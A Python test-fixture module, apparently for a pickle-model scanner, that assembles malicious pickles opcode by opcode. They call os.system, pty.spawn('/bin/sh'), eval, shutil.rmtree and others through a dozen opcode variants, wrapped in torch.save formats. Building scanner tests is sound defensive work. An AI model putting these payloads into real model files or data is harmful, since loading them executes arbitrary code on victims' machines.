"""Pickles as an attacker writes them, opcode by opcode: to make one imports and runs nothing.

The targets and the shapes are those that the scanners' test suites hold: fickling's attack vectors,
bypasses, CVE patterns and expansion attacks, modelscan's and picklescan's reports.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

LEGACY = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}(X\x0d\x00\x00\x00little_endian\x88u."

TARGETS: list[tuple[str, str, bytes]] = [  # module, name, and the arguments' opcodes
    ("os", "system", b"(X\x02\x00\x00\x00idt"),
    ("posix", "system", b"(X\x02\x00\x00\x00idt"),
    ("nt", "system", b"(X\x02\x00\x00\x00idt"),
    ("os", "popen", b"(X\x02\x00\x00\x00idt"),
    ("os", "execv", b"(X\x07\x00\x00\x00/bin/sh](X\x02\x00\x00\x00idet"),
    ("subprocess", "Popen", b"(X\x02\x00\x00\x00idt"),
    ("subprocess", "check_output", b"(X\x02\x00\x00\x00idt"),
    ("builtins", "eval", b"(X\x03\x00\x00\x001/0t"),
    ("__builtin__", "eval", b"(X\x03\x00\x00\x001/0t"),
    ("builtins", "exec", b"(X\x03\x00\x00\x001/0t"),
    ("builtins", "compile", b"(X\x01\x00\x00\x001X\x01\x00\x00\x00xX\x04\x00\x00\x00exect"),
    ("builtins", "__import__", b"(X\x02\x00\x00\x00ost"),
    ("builtins", "open", b"(X\x07\x00\x00\x00written" + b"X\x01\x00\x00\x00wt"),
    ("builtins", "getattr", b"(cos\nsystem\nX\x08\x00\x00\x00__call__t"),
    ("builtins", "map", b"(cos\nsystem\n](X\x02\x00\x00\x00idet"),
    ("builtins", "dict.get", b"(cnumpy\n__builtins__\nX\x04\x00\x00\x00exect"),
    ("operator", "attrgetter", b"(X\x06\x00\x00\x00systemt"),
    ("_operator", "methodcaller", b"(X\x06\x00\x00\x00systemt"),
    ("functools", "partial", b"(cos\nsystem\nX\x02\x00\x00\x00idt"),
    ("runpy", "run_path", b"(X\x04\x00\x00\x00x.pyt"),
    ("runpy", "_run_code", b"(X\x01\x00\x00\x001}t"),
    ("cProfile", "run", b"(X\x01\x00\x00\x001t"),
    ("timeit", "timeit", b"(X\x01\x00\x00\x001t"),
    ("pdb", "run", b"(X\x01\x00\x00\x001t"),
    ("code", "InteractiveInterpreter", b")"),
    ("importlib", "import_module", b"(X\x0b\x00\x00\x00antigravityt"),
    ("marshal", "loads", b"(C\x04\xe9\x01\x00\x00t"),
    ("types", "FunctionType", b"(N}t"),
    ("types", "CodeType", b")"),
    ("ctypes", "CDLL", b"(X\x09\x00\x00\x00libc.so.6t"),
    ("pty", "spawn", b"(X\x07\x00\x00\x00/bin/sht"),
    ("pydoc", "locate", b"(X\x09\x00\x00\x00os.systemt"),
    ("multiprocessing.util", "spawnv_passfds", b"(C\x07/bin/sh](C\x02idet"),
    ("asyncio.unix_events", "_UnixSubprocessTransport", b")"),
    ("socket", "create_connection", b"((X\x09\x00\x00\x00127.0.0.1K\x01tt"),
    ("http.client", "HTTPConnection", b"(X\x09\x00\x00\x00127.0.0.1t"),
    ("sys", "exit", b"(K\x00t"),
    ("shutil", "rmtree", b"(X\x07\x00\x00\x00missingt"),
    ("_io", "FileIO", b"(X\x07\x00\x00\x00writtenX\x01\x00\x00\x00wt"),
    ("pathlib", "Path.write_text", b"(X\x07\x00\x00\x00writtenX\x01\x00\x00\x00xt"),
    ("distutils.file_util", "write_file", b"(X\x07\x00\x00\x00written](X\x01\x00\x00\x00xet"),
    ("webbrowser", "open", b"(X\x12\x00\x00\x00http://127.0.0.1:1t"),
    ("pip", "main", b"(](X\x04\x00\x00\x00helpet"),
    ("pickle", "loads", b"(C\x15cos\nsystem\n(S'id'\ntR.t"),
    ("_pickle", "loads", b"(C\x15cos\nsystem\n(S'id'\ntR.t"),
    ("_interpreters", "create", b")"),
    ("numpy", "load", b"(X\x01\x00\x00\x00xt"),
    ("numpy.testing._private.utils", "runstring", b"(X\x01\x00\x00\x001}t"),
    ("numpy.f2py.diagnose", "run_command", b"(X\x02\x00\x00\x00idt"),
    ("torch", "load", b"(X\x01\x00\x00\x00xt"),
    ("torch.hub", "load", b"(X\x01\x00\x00\x00xt"),
    ("torch.serialization", "load", b"(X\x01\x00\x00\x00xt"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", b"(X\x01\x00\x00\x001}}t"),
    ("torch.fx.graph_module", "reduce_graph_module", b"(}X\x00\x00\x00\x00t"),
    ("torch.os", "system", b"(X\x02\x00\x00\x00idt"),
    ("torch_utils.persistence", "_reconstruct_persistent_obj", b"(}X\x0a\x00\x00\x00module_srcX\x03\x00\x00\x001/0st"),
    ("torch._utils", "_rebuild_from_type", b"(cos\nsystem\ncbuiltins\nobject\n(X\x02\x00\x00\x00idt}t"),
    ("torch._tensor", "_rebuild_from_type_v2", b"(cos\nsystem\ncbuiltins\nobject\n(X\x02\x00\x00\x00idt}t"),
    ("torch._utils", "_rebuild_parameter_with_state", b"(cos\nsystem\n\x88N}t"),
    ("collections", "defaultdict", b"(cos\nsystem\nt"),
    ("copyreg", "_reconstructor", b"(csubprocess\nPopen\ncbuiltins\nobject\nNt"),
    ("joblib.load", "load", b"(X\x01\x00\x00\x00xt"),
    ("dill._dill", "_create_function", b"(N}t"),
    ("cloudpickle.cloudpickle", "_make_function", b"(NN}NNt"),
]  # fmt: skip


def text(word: str) -> bytes:
    """The opcode that pushes a string."""
    raw = word.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def calls(module: str, name: str, args: bytes) -> Iterator[tuple[str, bytes]]:
    """One call in every way that a pickle has of making it, as (way, opcodes that leave the result)."""
    named = f"c{module}\n{name}\n".encode()
    inside = args[1:-1] if args.startswith(b"(") else b""
    yield "REDUCE", named + args + b"R"
    yield "STACK_GLOBAL", text(module) + text(name) + b"\x93" + args + b"R"
    yield "NEWOBJ", named + args + b"\x81"
    yield "NEWOBJ_EX", named + args + b"}\x92"
    yield "INST", b"(" + inside + f"i{module}\n{name}\n".encode()
    yield "OBJ", b"(" + named + inside + b"o"
    yield "BUILD", named + args + b"R" + text("state") + b"b"
    yield "setstate", b"cbuiltins\nException\n)R}" + text("__setstate__") + named + b"sb" + text("id") + b"b"
    yield "called again", named + args + b"R" + args + b"R" + args + b"R"
    yield "hidden in a list", b"](" + named + args + b"R" + b"0K\x01e"
    yield "as a key", b"}" + named + args + b"R" + b"K\x01s"
    yield "as a persistent id", named + args + b"RQ"


def legacy(program: bytes) -> bytes:
    """A legacy stream of torch.save around an object's pickle."""
    return LEGACY + program + b"\x80\x02]."


def torch_zip(
    program: bytes, storages: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED
) -> bytes:
    """A zip archive of torch.save around an object's pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("archive/data.pkl", program)
        for key, data in (storages or {}).items():
            archive.writestr(f"archive/data/{key}", data)
    return out.getvalue()


def write_sparse(path: Path, size: int, start: bytes = b"", end: bytes = b"") -> None:
    """A file of `size` bytes that takes no room on the disk."""
    with path.open("wb") as file:
        file.write(start)
        file.seek(size - len(end))
        file.write(end or b"")
        file.truncate(size)


WRAPPED: dict[str, Callable[[bytes], bytes]] = {"torch": torch_zip, "torch-legacy": legacy, "pickle": bytes}
